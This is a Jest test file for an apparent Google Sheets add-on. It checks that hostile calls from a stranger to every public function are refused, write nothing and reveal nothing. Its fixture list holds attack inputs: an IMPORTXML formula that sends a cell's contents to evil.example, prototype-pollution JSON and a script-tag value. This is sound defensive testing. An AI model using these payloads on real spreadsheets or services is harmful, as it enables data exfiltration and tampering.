import { describe, expect, it } from '@jest/globals';
import { publicGlobals } from '../../src/contract/public-globals';
import { EmulatedArchive } from '../support/emulated-archive';

const SECRET = 'Wang Fang 138 0013 8000';
const archive = new EmulatedArchive();
archive.value('setUpFromSidebar', { language: 'en' });
const card = archive.value('saveCardFromSidebar', {
  kind: 'individual',
  requestId: '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
  changes: { name: SECRET, phone: SECRET },
});
const before = archive.snapshot();

/** What a page or a stranger's script can send: google.script.run lets plain data through and nothing else. */
const HOSTILE: readonly (readonly [string, readonly unknown[]])[] = [
  ['a number', [7]],
  ['text', ['x']],
  ['a very long text', ['x'.repeat(200_000)]],
  ['a formula', ['=IMPORTXML("https://evil.example/?"&A1,"//a")']],
  ['a list', [[1, [2]]]],
  ['deep nesting', [{ id: { id: { id: {} } } }]],
  ['an unknown key', [{ nobody: 1 }]],
  ['keys of the language itself', [{ constructor: 'x', toString: 'x', changes: {} }]],
  ['a prototype', [JSON.parse('{"__proto__":{"id":"C-1"},"changes":{"__proto__":"x"}}')]],
  ['another argument behind', [{ id: 7 }, { id: 8 }]],
  ['an id that is no text', [{ id: { length: 3 }, changes: { name: 'x' } }]],
  [
    'a change of what only the add-on writes',
    [{ id: card.id, revision: 1, changes: { id: 'C-2', revision: 99, updatedBy: 'me' } }],
  ],
  [
    'a mark of another day and person',
    [{ id: card.id, revision: 1, changes: { 'mark:phone': 'confirmed 2026-02-09 boss@example.com' } }],
  ],
  ['a mark of the language itself', [{ id: card.id, revision: 1, changes: { 'mark:constructor': 'confirmed' } }]],
  ['a day of confirmation', [{ id: card.id, revision: 1, changes: { lastConfirmed: '2026-02-09' } }]],
  ['a change with a wrong type', [{ id: card.id, revision: 1, changes: { name: 7 } }]],
  ['a card of nobody', [{ id: '=C-1', revision: 1, changes: { name: 'x' } }]],
  ['another kind', [{ kind: '<script>', requestId: '3f2504e0-4f89-41d3-9a0c-0305e82c3302', changes: { name: 'x' } }]],
  ['a request id that is no text', [{ kind: 'individual', requestId: { a: 1 }, changes: { name: 'x' } }]],
];

const names = [
  ...publicGlobals.simpleTriggers,
  ...publicGlobals.timeTriggers,
  ...publicGlobals.menuItems,
  ...publicGlobals.pageCalls,
  ...publicGlobals.customFunctions,
];

interface Answer {
  readonly refused: boolean;
  readonly text: string;
  readonly reply?: unknown;
}

/** What a caller sees: the reply, or the text of the error that Google passes on. */
function answer(name: string, args: readonly unknown[]): Answer {
  try {
    const reply = archive.raw(name, args, 'stranger@example.com');
    const text = JSON.stringify(reply) ?? '';
    return { refused: text.includes('"ok":false'), text, reply };
  } catch (error) {
    return { refused: true, text: String(error) };
  }
}

const calculates: ReadonlySet<string> = new Set(publicGlobals.customFunctions);

/** What a formula may show: rows of the same width, in which stand numbers, words and blanks; or one of those. */
function isForCells(reply: unknown): boolean {
  const rows: readonly unknown[] = Array.isArray(reply) ? reply : [[reply]];
  return rows.every(
    (row) => Array.isArray(row) && row.length === (rows[0] as readonly unknown[]).length && row.every(isCell),
  );
}
const isCell = (cell: unknown): boolean => cell === null || Number.isFinite(cell) || typeof cell === 'string';

describe.each(names)('%s() called by a stranger', (name) => {
  it.each(HOSTILE)('with %s is refused, writes nothing and reveals nothing', (_, args) => {
    const { refused, text, reply } = answer(name, args);
    // A custom function takes anything for a cell, and 7 is a value like any other: what it makes of it are cells again.
    // A trigger given no event of Google's does nothing at all.
    expect(refused || text === '' || text === 'null' || (calculates.has(name) && isForCells(reply))).toBe(true);
    expect(text).not.toContain(SECRET);
    expect(text).not.toMatch(/\bat .*Code|dist|node:|\.ts\b/);
    expect(archive.snapshot()).toBe(before);
  });
});

describe('a name that is no public global', () => {
  it.each(['nobody', 'rpc', 'compose', 'global', 'onOpen_', 'constructor', '__proto__'])(
    '%s cannot be called',
    (name) => {
      expect(() => archive.raw(name, [])).toThrow();
      expect(archive.snapshot()).toBe(before);
    },
  );
});
